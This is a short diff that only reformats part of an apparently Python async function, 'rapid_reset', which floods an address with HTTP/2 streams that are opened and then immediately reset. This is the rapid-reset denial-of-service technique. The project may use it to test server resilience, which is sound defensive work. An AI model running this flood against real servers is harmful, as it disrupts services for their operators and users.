@@ -93,9 +93,11 @@ async def rapid_reset(address: str, times: int) -> None:
         head = block(USUAL)
         for first in range(1, 2 * times, 200):
             data = b"".join(
-                frame(HEADERS, END_HEADERS, stream, head) + frame(DATA, END_STREAM, stream, EMPTY)
-                + frame(RST, 0, stream, cancel) for stream in range(first, first + 200, 2)
-            )  # fmt: skip
+                frame(HEADERS, END_HEADERS, stream, head)
+                + frame(DATA, END_STREAM, stream, EMPTY)
+                + frame(RST, 0, stream, cancel)
+                for stream in range(first, first + 200, 2)
+            )
             if not await made.send(data):
                 break
         await made.handled()
